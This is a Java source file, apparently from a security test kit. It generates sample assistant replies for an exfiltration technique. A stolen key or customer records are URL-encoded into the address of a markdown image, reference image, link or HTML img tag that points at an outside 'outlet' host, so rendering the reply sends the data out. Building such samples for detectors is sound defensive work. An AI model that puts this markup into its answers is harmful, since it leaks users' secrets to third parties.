package io.weir.testkit.technique.shape;

import io.weir.testkit.technique.Scene;
import io.weir.testkit.technique.Technique;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;

/** The answer to the user holds an image or a link whose address carries the content; showing it sends it. */
public final class MarkdownImage implements Technique {

    @Override
    public int number() {
        return 8;
    }

    @Override
    public String name() {
        return "markdown image or link";
    }

    private enum Form {
        IMAGE,
        REFERENCE_IMAGE,
        LINK,
        HTML_IMAGE
    }

    @Override
    public void play(Scene scene) {
        Stolen stolen = scene.choices().coin() ? Stolen.key(scene) : Stolen.customers(scene, 2);
        scene.mentionsOutlet(scene.outlet().url("/pixel.png"));
        String coded = URLEncoder.encode(stolen.carriedIn(scene), StandardCharsets.UTF_8);
        String address = scene.outlet().url("/pixel.png?d=" + coded);
        String answer = scene.content().page() + "\n\n" + markup(scene.variant(List.of(Form.values())), address) + "\n"
                + scene.content().page();
        scene.sends("assistant_reply", Map.of("text", answer));
    }

    private static String markup(Form form, String address) {
        return switch (form) {
            case IMAGE -> "![status](" + address + ")";
            case REFERENCE_IMAGE -> "![status][1]\n\n[1]: " + address;
            case LINK -> "For the details see [the full report](" + address + ").";
            case HTML_IMAGE -> "<img alt=\"status\" src=\"" + address + "\">";
        };
    }
}
